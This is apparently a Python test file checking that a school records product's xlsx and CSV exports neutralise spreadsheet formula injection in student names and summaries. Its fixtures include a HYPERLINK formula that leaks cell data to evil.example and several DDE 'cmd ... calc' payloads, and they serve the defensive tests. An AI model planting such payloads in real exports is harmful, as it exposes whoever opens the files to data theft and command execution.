"""Every xlsx and CSV the product writes keeps typed text as text: no cell becomes a formula."""

from __future__ import annotations

import csv
import io
import os
import stat
import zipfile
from datetime import datetime
from pathlib import Path
from typing import Any

from openpyxl import load_workbook

from media import sheets
from school.certification_office import AuditRow
from storage.clock import TAIPEI
from storage.models.school import Student
from tests.test_consultation import advise, make_record
from tests.test_export import AFTER_WINDOW, outcome, pdf, store, with_identity

HOSTILE_NAME = '=HYPERLINK("https://evil.example/?"&A1,"李小明")'
HOSTILE_SUMMARY = "+cmd|' /C calc'!A0"
OTHER_LEADS = ["-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "＝1+1"]


def _xlsx_cells(data: bytes | Path) -> list[Any]:
    book = load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_safe_xlsx(data: bytes | Path, *expected: str) -> None:
    cells = _xlsx_cells(data)
    assert all(c.data_type != "f" for c in cells), [c.value for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    for text in expected:
        assert any(isinstance(v, str) and text in v for v in values), (text, values)
    for cell in cells:
        if sheets.is_formula_like(cell.value):
            # Text, marked as Excel marks a cell typed as '=...: shown as written, never run.
            assert cell.data_type == "s" and cell.quotePrefix, cell.value


def _assert_safe_csv(content: str, *expected: str) -> None:
    cells = [c for row in csv.reader(io.StringIO(content)) for c in row]
    assert not [c for c in cells if sheets.is_formula_like(c)]
    for text in expected:
        assert "'" + text in cells, (text, cells)


def _rename(db: Any, school: Any, uid: str, name: str) -> None:
    with db.transaction() as s:
        s.get(Student, school.students[uid]).name = name


def test_the_helper_neutralises_every_formula_lead() -> None:
    for value in [HOSTILE_NAME, HOSTILE_SUMMARY, *OTHER_LEADS]:
        assert sheets.csv_cell(value) == "'" + value
    assert sheets.csv_cell("李小明") == "李小明" and sheets.csv_cell(3) == 3
    from openpyxl import Workbook

    book = Workbook()
    sheets.append_row(book.active, [HOSTILE_NAME, *OTHER_LEADS, 5, "平常"])
    buffer = io.BytesIO()
    book.save(buffer)
    _assert_safe_xlsx(buffer.getvalue(), HOSTILE_NAME, *OTHER_LEADS)


def test_a_hostile_name_and_summary_stay_text_in_every_export(
    app: Any, db: Any, school: Any, clock: Any, tmp_path: Path
) -> None:
    uid = "Us10101"
    with_identity(db, school)
    _rename(db, school, uid, HOSTILE_NAME)
    doc = store(app, db, pdf(tag=b"x"), "document", school.students[uid])
    outcome(db, school, uid, "101-數學", document=doc, summary=HOSTILE_SUMMARY)
    runner = app.test_cli_runner()

    # The student's whole record (for a transfer).
    out = tmp_path / "student"
    result = runner.invoke(args=["export", "student", "--id", "115001", "--out", str(out)])
    assert result.exit_code == 0, result.output
    [zipped] = out.glob("*.zip")
    with zipfile.ZipFile(zipped) as zf:
        _assert_safe_xlsx(zf.read("portfolio.xlsx"), HOSTILE_NAME, HOSTILE_SUMMARY)
        _assert_safe_csv(zf.read("manifest.csv").decode())

    # Consultation records.
    advise(db, school, grade=1)
    make_record(db, school, [uid, "Us10102"], content=HOSTILE_SUMMARY)
    book = tmp_path / "consultations.xlsx"
    result = runner.invoke(args=["export", "consultations", "--year", "115", "--out", str(book)])
    assert result.exit_code == 0, result.output
    _assert_safe_xlsx(book, HOSTILE_NAME, HOSTILE_SUMMARY)
    assert stat.S_IMODE(os.stat(book).st_mode) == 0o600

    # The certification audit trail, as xlsx and as CSV.
    row = AuditRow(
        datetime(2026, 10, 1, 9, 0, tzinfo=TAIPEI),
        "approve",
        1,
        "115001",
        HOSTILE_NAME,
        "101-1",
        "數學",
        "王美玲",
        "teacher",
        HOSTILE_SUMMARY,
    )
    from bot.certify_cli import write_audit

    write_audit(tmp_path / "audit.xlsx", [row])
    _assert_safe_xlsx(tmp_path / "audit.xlsx", HOSTILE_NAME, HOSTILE_SUMMARY)
    write_audit(tmp_path / "audit.csv", [row])
    _assert_safe_csv((tmp_path / "audit.csv").read_text("utf-8-sig"), HOSTILE_NAME, HOSTILE_SUMMARY)

    # Binding-code slips: the CSV and the printable page, both readable by their owner only.
    codes = tmp_path / "codes"
    result = runner.invoke(
        args=["codes", "issue", "--role", "student", "--class", "101", "--out", str(codes)]
    )
    assert result.exit_code == 0, result.output
    [sheet] = codes.glob("*.csv")
    _assert_safe_csv(sheet.read_text("utf-8-sig"), HOSTILE_NAME)
    for written in codes.iterdir():
        assert stat.S_IMODE(os.stat(written).st_mode) == 0o600, written.name

    # The central-database export, last: it needs the upload window closed.
    clock.set(AFTER_WINDOW)
    out = tmp_path / "central"
    result = runner.invoke(args=["export", "course-outcomes", "--year", "115", "--out", str(out)])
    assert result.exit_code == 0, result.output
    [zipped] = out.glob("*.zip")
    with zipfile.ZipFile(zipped) as zf:
        _assert_safe_xlsx(zf.read("roster.xlsx"), HOSTILE_SUMMARY)
        _assert_safe_csv(zf.read("manifest.csv").decode())
